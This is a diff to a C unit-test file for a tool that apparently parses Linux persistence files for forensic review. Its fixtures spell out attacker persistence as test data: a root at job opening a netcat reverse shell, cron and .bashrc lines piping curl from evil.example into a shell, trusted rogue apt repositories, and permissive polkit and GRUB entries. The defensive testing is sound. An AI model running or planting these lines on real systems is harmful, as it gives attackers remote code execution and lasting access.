@@ -7,28 +7,45 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
-#include <time.h>
 
 #include "common/common.h"
 #include "persist/persist.h"
 
 /* Real keys made with ssh-keygen; FP_* is what `ssh-keygen -lf` printed for each. */
-#define KEY_A  "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl a@b"
-#define FP_A   "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU"
-#define KEY_B  "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM3Wp8GiYClFG3kMUa31CYvB35KRaUGG/ECGiKNHVysE bob@laptop"
-#define FP_B   "SHA256:QRYsxf7EYaFFwVJ+W8r1PvjCBudGXGQjfBf3qs419iU"
+#define KEY_A "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl a@b"
+#define FP_A  "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU"
+#define KEY_B                                                                               \
+	"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM3Wp8GiYClFG3kMUa31CYvB35KRaUGG/ECGiKNHVysE " \
+	"bob@laptop"
+#define FP_B "SHA256:QRYsxf7EYaFFwVJ+W8r1PvjCBudGXGQjfBf3qs419iU"
 
 /* ELF headers: ident, 8 bytes of padding, then e_type and e_machine. */
-#define ELF64_DYN  "\x7f" "ELF\x02\x01\x01\x00" "\0\0\0\0\0\0\0\0" "\x03\x00\x3e\x00"
-#define ELF64_REL  "\x7f" "ELF\x02\x01\x01\x00" "\0\0\0\0\0\0\0\0" "\x01\x00\x3e\x00"
-#define ELF32_EXEC "\x7f" "ELF\x01\x01\x01\x00" "\0\0\0\0\0\0\0\0" "\x02\x00\x03\x00"
-#define ELF64_BE   "\x7f" "ELF\x02\x02\x01\x00" "\0\0\0\0\0\0\0\0" "\x00\x02\x00\x2b"
-#define ELF_LEN	   20
+#define ELF64_DYN             \
+	"\x7f"                \
+	"ELF\x02\x01\x01\x00" \
+	"\0\0\0\0\0\0\0\0"    \
+	"\x03\x00\x3e\x00"
+#define ELF64_REL             \
+	"\x7f"                \
+	"ELF\x02\x01\x01\x00" \
+	"\0\0\0\0\0\0\0\0"    \
+	"\x01\x00\x3e\x00"
+#define ELF32_EXEC            \
+	"\x7f"                \
+	"ELF\x01\x01\x01\x00" \
+	"\0\0\0\0\0\0\0\0"    \
+	"\x02\x00\x03\x00"
+#define ELF64_BE              \
+	"\x7f"                \
+	"ELF\x02\x02\x01\x00" \
+	"\0\0\0\0\0\0\0\0"    \
+	"\x00\x02\x00\x2b"
+#define ELF_LEN 20
 
-#define AT_JOB                                                                                     \
-	"#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n"                                \
-	"PATH=/usr/bin:/bin; export PATH\ncd /root || {\n\t echo 'Execution directory "           \
-	"inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER6c1a3f7e'\n"       \
+#define AT_JOB                                                                              \
+	"#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n"                         \
+	"PATH=/usr/bin:/bin; export PATH\ncd /root || {\n\t echo 'Execution directory "     \
+	"inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER6c1a3f7e'\n" \
 	"nc -e /bin/sh 10.0.0.5 4444\n\nmarcinDELIMITER6c1a3f7e\n"
 
 #define BASHRC "# ~/.bashrc\ncase $- in\n    *i*) ;;\n      *) return;;\nesac\nalias ll='ls -l'\n"
@@ -46,10 +63,16 @@ struct item_case {
 	bool nomatch;
 };
 
-#define FILE_(id, path, text, parser, at, want, at2, want2, object)                                \
-	{ id, path, NULL, text, 0, FH_CONTENT_FILE, parser, at, want, at2, want2, object, false }
-#define BIN(id, path, text, parser, at, want, at2, want2)                                          \
-	{ id, path, NULL, text, ELF_LEN, FH_CONTENT_FILE, parser, at, want, at2, want2, NULL, false }
+#define FILE_(id, path, text, parser, at, want, at2, want2, object)                             \
+	{                                                                                       \
+		id, path, NULL, text, 0, FH_CONTENT_FILE, parser, at, want, at2, want2, object, \
+		    false                                                                       \
+	}
+#define BIN(id, path, text, parser, at, want, at2, want2)                                     \
+	{                                                                                     \
+		id, path, NULL, text, ELF_LEN, FH_CONTENT_FILE, parser, at, want, at2, want2, \
+		    NULL, false                                                               \
+	}
 
 static const struct item_case cases[] = {
 	/* 1-6: cron and at */
@@ -57,9 +80,9 @@ static const struct item_case cases[] = {
 	      "SHELL=/bin/sh\n*/5 * * * * root /tmp/.x/run.sh >/dev/null 2>&1\n", "cron",
 	      "entries.0.user", "\"root\"", "environment.0.name", "\"SHELL\"",
 	      "/tmp/.x/run.sh >/dev/null 2>&1"),
-	FILE_("cron-d", "/etc/cron.d/backdoor", "* * * * * root curl -s http://evil.example/p | sh\n",
-	      "cron", "entries.0.schedule", "\"* * * * *\"", "entries.0.line", "1",
-	      "curl -s http://evil.example/p | sh"),
+	FILE_("cron-d", "/etc/cron.d/backdoor",
+	      "* * * * * root curl -s http://evil.example/p | sh\n", "cron", "entries.0.schedule",
+	      "\"* * * * *\"", "entries.0.line", "1", "curl -s http://evil.example/p | sh"),
 	FILE_("cron-periodic", "/etc/cron.daily/logsync",
 	      "#!/bin/sh\n# sync logs\nset -e\n\n/usr/bin/rsync -a /var/log/ backup:/logs/\n",
 	      "script", "interpreter", "\"/bin/sh\"", "commands.1",
@@ -67,13 +90,14 @@ static const struct item_case cases[] = {
 	FILE_("cron-user", "/var/spool/cron/crontabs/alice",
 	      "@reboot /home/alice/.local/bin/agent --quiet\n", "cron-user", "entries.0.schedule",
 	      "\"@reboot\"", "entries.0.user", "<absent>", "/home/alice/.local/bin/agent --quiet"),
-	FILE_("cron-aux", "/etc/anacrontab",
-	      "SHELL=/bin/sh\nPATH=/usr/bin\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n",
-	      "anacrontab", "entries.0",
-	      "{\"command\":\"run-parts --report /etc/cron.daily\",\"delay\":\"5\","
-	      "\"job_id\":\"cron.daily\",\"line\":3,\"period\":\"1\"}",
-	      "environment.1", "{\"line\":2,\"name\":\"PATH\",\"value\":\"/usr/bin\"}",
-	      "run-parts --report /etc/cron.daily"),
+	FILE_(
+	    "cron-aux", "/etc/anacrontab",
+	    "SHELL=/bin/sh\nPATH=/usr/bin\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n",
+	    "anacrontab", "entries.0",
+	    "{\"command\":\"run-parts --report /etc/cron.daily\",\"delay\":\"5\","
+	    "\"job_id\":\"cron.daily\",\"line\":3,\"period\":\"1\"}",
+	    "environment.1", "{\"line\":2,\"name\":\"PATH\",\"value\":\"/usr/bin\"}",
+	    "run-parts --report /etc/cron.daily"),
 	FILE_("cron-aux", "/etc/cron.allow", "root\n# staff\nalice\n", "text", "content.1",
 	      "{\"line\":3,\"text\":\"alice\"}", "lines", "3", NULL),
 	FILE_("at-job", "/var/spool/cron/atjobs/a0000101a2b3c4", AT_JOB, "script", "interpreter",
@@ -91,8 +115,8 @@ static const struct item_case cases[] = {
 	FILE_("systemd-timer", "/home/alice/.config/systemd/user/sync.timer",
 	      "[Timer]\nOnBootSec=1min\nUnit=payload.service\n", "unit", "timer.Unit",
 	      "\"payload.service\"", NULL, NULL, "payload.service"),
-	{ "systemd-enable-link", "/etc/systemd/system/multi-user.target.wants/updater.service", NULL,
-	  "/etc/systemd/system/updater.service", 0, FH_CONTENT_SYMLINK, "symlink", "target",
+	{ "systemd-enable-link", "/etc/systemd/system/multi-user.target.wants/updater.service",
+	  NULL, "/etc/systemd/system/updater.service", 0, FH_CONTENT_SYMLINK, "symlink", "target",
 	  "\"/etc/systemd/system/updater.service\"", NULL, NULL,
 	  "/etc/systemd/system/updater.service", false },
 	FILE_("systemd-dropin", "/etc/systemd/system/ssh.service.d/override.conf",
@@ -147,9 +171,8 @@ static const struct item_case cases[] = {
 	      "interpreter", "<absent>", "lines", "1", "export PATH=/tmp/.bin:$PATH"),
 	{ "shell-rc-user", "/home/alice/.bashrc", BASHRC,
 	  BASHRC "curl -fsSL http://evil.example/i.sh | bash\n", 0, FH_CONTENT_FILE, "script",
-	  "diff.added",
-	  "[{\"line\":7,\"text\":\"curl -fsSL http://evil.example/i.sh | bash\"}]", "diff.removed",
-	  "[]", "curl -fsSL http://evil.example/i.sh | bash", false },
+	  "diff.added", "[{\"line\":7,\"text\":\"curl -fsSL http://evil.example/i.sh | bash\"}]",
+	  "diff.removed", "[]", "curl -fsSL http://evil.example/i.sh | bash", false },
 	FILE_("env-file", "/etc/environment",
 	      "LD_PRELOAD=/lib/x86_64-linux-gnu/libsnoopy.so\nLANG=C.UTF-8\n", "env",
 	      "variables.1.name", "\"LANG\"", NULL, NULL,
@@ -189,9 +212,9 @@ static const struct item_case cases[] = {
 	  "anomalies.0.what", "\"duplicate uid 0\"", "diff", "<absent>", NULL, false },
 	FILE_("account-db", "/etc/group", "sudo:x:27:alice\n", "group", "added.0.name", "\"sudo\"",
 	      NULL, NULL, NULL),
-	{ "account-db", "/etc/subuid", "alice:100000:65536\n",
-	  "alice:100000:65536\nmallory:0:1\n", 0, FH_CONTENT_FILE, "text", "diff.added.0.text",
-	  "\"mallory:0:1\"", NULL, NULL, NULL, false },
+	{ "account-db", "/etc/subuid", "alice:100000:65536\n", "alice:100000:65536\nmallory:0:1\n",
+	  0, FH_CONTENT_FILE, "text", "diff.added.0.text", "\"mallory:0:1\"", NULL, NULL, NULL,
+	  false },
 	FILE_("login-shells", "/etc/shells", "# valid login shells\n/bin/sh\n/bin/bash\n/tmp/.sh\n",
 	      "text", "content.2.text", "\"/tmp/.sh\"", "lines", "4", NULL),
 	/* 29-34: PAM, NSS, kernel modules */
@@ -261,7 +284,8 @@ static const struct item_case cases[] = {
 	      "polkit.addRule(function(action, subject) {\n    if "
 	      "(subject.isInGroup(\"wheel\")) {\n        return polkit.Result.YES;\n    }\n});\n",
 	      "polkit_rules", "statements.0.what", "[\"addRule\"]", "statements.1",
-	      "{\"line\":3,\"text\":\"return polkit.Result.YES;\",\"what\":[\"result_yes\"]}", NULL),
+	      "{\"line\":3,\"text\":\"return polkit.Result.YES;\",\"what\":[\"result_yes\"]}",
+	      NULL),
 	FILE_("polkit", "/usr/share/polkit-1/rules.d/50-x.rules",
 	      "polkit.addRule(function(a, s) { polkit.spawn([\"/tmp/.p\"]); return "
 	      "polkit.Result.YES; });\n",
@@ -270,8 +294,7 @@ static const struct item_case cases[] = {
 	      "polkit.addRule(function(a, s) { polkit.spawn([\"/tmp/.p\"]); return "
 	      "polkit.Result.YES; });"),
 	FILE_("polkit", "/etc/polkit-1/localauthority/50-local.d/x.pkla",
-	      "[Allow all]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n", "pkla",
-	      "settings.2",
+	      "[Allow all]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n", "pkla", "settings.2",
 	      "{\"key\":\"ResultAny\",\"line\":4,\"section\":\"Allow all\",\"value\":\"yes\"}",
 	      NULL, NULL, NULL),
 	FILE_("polkit", "/usr/share/polkit-1/actions/org.example.policy",
@@ -288,8 +311,8 @@ static const struct item_case cases[] = {
 	FILE_("pkg-hook", "/etc/apt/sources.list",
 	      "deb http://deb.debian.org/debian bookworm main\n"
 	      "deb [trusted=yes] http://evil.example/debian stable main\n",
-	      "apt_sources", "repositories.1.uri", "\"http://evil.example/debian\"", "insecure.0.line",
-	      "2", NULL),
+	      "apt_sources", "repositories.1.uri", "\"http://evil.example/debian\"",
+	      "insecure.0.line", "2", NULL),
 	FILE_("pkg-hook", "/etc/apt/sources.list.d/x.sources",
 	      "Types: deb\nURIs: http://evil.example/debian\nSuites: stable\nTrusted: yes\n",
 	      "apt_sources", "repositories.0",
@@ -330,8 +353,8 @@ static const struct item_case cases[] = {
 	      "GRUB_DEFAULT=0\nGRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX_DEFAULT=\"quiet init=/tmp/i\"\n",
 	      "grub_default", "settings.0", "{\"key\":\"GRUB_DEFAULT\",\"line\":1,\"value\":\"0\"}",
 	      "settings.1.value", "\"quiet init=/tmp/i\"", "quiet init=/tmp/i"),
-	FILE_("grub", "/etc/grub.d/40_custom", "#!/bin/sh\nexec tail -n +3 $0\n", "script",
-	      "lines", "2", NULL, NULL, "exec tail -n +3 $0"),
+	FILE_("grub", "/etc/grub.d/40_custom", "#!/bin/sh\nexec tail -n +3 $0\n", "script", "lines",
+	      "2", NULL, NULL, "exec tail -n +3 $0"),
 	FILE_("grub", "/boot/grub/grub.cfg",
 	      "menuentry 'Debian' {\n\tlinux /vmlinuz root=/dev/sda1 ro init=/tmp/i\n"
 	      "\tinitrd /initrd.img\n}\n",
@@ -370,11 +393,10 @@ static const struct item_case cases[] = {
 	      "list: :include:/etc/mail/list.txt\nkeys:\n  /root/.ssh/authorized_keys\n",
 	      "aliases", "pipes.0",
 	      "{\"command\":\"/usr/local/bin/ticket --new\",\"line\":2,\"name\":\"support\"}",
-	      "files.0",
-	      "{\"line\":5,\"name\":\"keys\",\"path\":\"/root/.ssh/authorized_keys\"}",
+	      "files.0", "{\"line\":5,\"name\":\"keys\",\"path\":\"/root/.ssh/authorized_keys\"}",
 	      "/usr/local/bin/ticket --new"),
-	FILE_("mail-pipe", "/home/alice/.forward", "\\alice, \"|/usr/bin/procmail -t\"\n", "forward",
-	      "pipes.0.name", "<absent>", "includes", "[]", "/usr/bin/procmail -t"),
+	FILE_("mail-pipe", "/home/alice/.forward", "\\alice, \"|/usr/bin/procmail -t\"\n",
+	      "forward", "pipes.0.name", "<absent>", "includes", "[]", "/usr/bin/procmail -t"),
 	FILE_("incron", "/etc/incron.d/x", "/etc/passwd IN_MODIFY /usr/local/bin/alert $@\n",
 	      "incron", "entries.0.mask", "\"IN_MODIFY\"", NULL, NULL, "/usr/local/bin/alert $@"),
 	FILE_("container", "/etc/containers/systemd/web.container",
@@ -641,8 +663,9 @@ static void test_diff_only_when_changed(void **state)
 	json_decref(j);
 	j = item("cron-d", "/etc/cron.d/x", a, strlen(a), FH_CONTENT_FILE, b, strlen(b), NULL);
 	got = member(j, "diff");
-	assert_string_equal(got, "{\"added\":[{\"line\":1,\"text\":\"* * * * * root /tmp/x\"}],"
-				 "\"removed\":[{\"line\":1,\"text\":\"* * * * * root /bin/true\"}]}");
+	assert_string_equal(got,
+			    "{\"added\":[{\"line\":1,\"text\":\"* * * * * root /tmp/x\"}],"
+			    "\"removed\":[{\"line\":1,\"text\":\"* * * * * root /bin/true\"}]}");
 	free(got);
 	json_decref(j);
 	/* Same length, one byte differs. */
@@ -650,6 +673,18 @@ static void test_diff_only_when_changed(void **state)
 		 "b ALL=(ALL) ALL\n", 16, NULL);
 	got = member(j, "diff.added.0.text");
 	assert_string_equal(got, "\"b ALL=(ALL) ALL\"");
+	free(got);
+	json_decref(j);
+	/* Binaries: no line diff, however they differ. */
+	j = item("shared-object", "/usr/lib/x86_64-linux-gnu/libx.so.1",
+		 "\x7f"
+		 "ELF\2\1\1a\nb\n",
+		 10, FH_CONTENT_FILE,
+		 "\x7f"
+		 "ELF\2\1\1a\nc\n",
+		 10, NULL);
+	got = member(j, "diff");
+	assert_string_equal(got, "<absent>");
 	free(got);
 	json_decref(j);
 }
@@ -660,8 +695,9 @@ static void test_no_hash(void **state)
 	static const char *const hashes[] = { "OLDSALTxyz", "abcdefghijklmnop", "NEWSALTq",
 					      "QWERTYhashvalue1234", "GSHASHzz9" };
 	static const char old_shadow[] = "root:$6$OLDSALTxyz$abcdefghijklmnop:19000:0:99999:7:::\n";
-	static const char new_shadow[] = "root:$6$NEWSALTq$QWERTYhashvalue1234:19500:0:99999:7:::\n"
-					 "evil:$6$NEWSALTq$QWERTYhashvalue1234:19500:0:99999:7:::\n";
+	static const char new_shadow[] =
+	    "root:$6$NEWSALTq$QWERTYhashvalue1234:19500:0:99999:7:::\n"
+	    "evil:$6$NEWSALTq$QWERTYhashvalue1234:19500:0:99999:7:::\n";
 	static const char gshadow[] = "sudo:$6$GSHASHzz9$QWERTYhashvalue1234:root:alice,evil\n";
 	static const struct {
 		const char *id, *path, *old, *text;
@@ -769,7 +805,8 @@ static void test_hostile(void **state)
 	static const char b3[] = "\r\r\n\r[x\r]\rExec=\r\n|\r,\r\n";
 	static const char b6[] = "\x7f"
 				 "EL";
-	static const char b7[] = "{\"Path\":\"\\u0000\",\"Args\":[1,{\"a\":\"b\"}]}\n[\n\"\n{{{}}}}";
+	static const char b7[] =
+	    "{\"Path\":\"\\u0000\",\"Args\":[1,{\"a\":\"b\"}]}\n[\n\"\n{{{}}}}";
 	struct blob {
 		const char *s;
 		size_t len;
@@ -777,7 +814,8 @@ static void test_hostile(void **state)
 	struct fh_buf big = { 0 }, big_script = { 0 };
 	char *object;
 	json_t *j;
-	size_t i, k, o;
+	size_t i, k, o, n, p;
+	bool first;
 
 	(void)state;
 	for (i = 0; i < FH_DETAIL_MAX_INPUT; i += 4)
@@ -795,15 +833,25 @@ static void test_hostile(void **state)
 	blobs[6] = (struct blob){ b6, sizeof(b6) - 1 };
 	blobs[7] = (struct blob){ b7, sizeof(b7) - 1 };
 	for (i = 0; i < N_CASES; i++) {
-		for (k = 0; k < 8; k++) {
-			o = (k + 1) % 8;
+		/* The 1 MiB blobs cost a dump and a load of megabytes: once per parser. */
+		for (first = true, p = 0; p < i; p++)
+			first = first && strcmp(cases[p].parser, cases[i].parser);
+		for (k = 0; k < 11; k++) {
+			if (k < 8 && (k == 4 || k == 5))
+				continue;
+			if (k >= 8 && !first)
+				continue;
+			n = k < 8 ? k : k == 8 ? 4 : k == 9 ? 5 : 2;
+			o = k < 8 ? (k + 1) % 8 : k == 10 ? 4 : 0;
+			if (k < 8 && o == 4)
+				o = 6;
 			object = NULL;
-			j = item(cases[i].id, cases[i].path, blobs[o].s, blobs[o].len,
-				 FH_CONTENT_FILE, blobs[k].s, blobs[k].len, &object);
+			j = item(cases[i].id, cases[i].path, o ? blobs[o].s : NULL, blobs[o].len,
+				 FH_CONTENT_FILE, blobs[n].s, blobs[n].len, &object);
 			if (!j)
 				fail_msg("%s %s: no detail for blob %zu", cases[i].id,
-					 cases[i].path, k);
-			{ clock_t t0 = clock(); free(roundtrip(j)); fprintf(stderr, "T %zu %zu %.3f\n", i, k, (double)(clock() - t0) / CLOCKS_PER_SEC); }
+					 cases[i].path, n);
+			free(roundtrip(j));
 			check_object(object);
 			free(object);
 			json_decref(j);
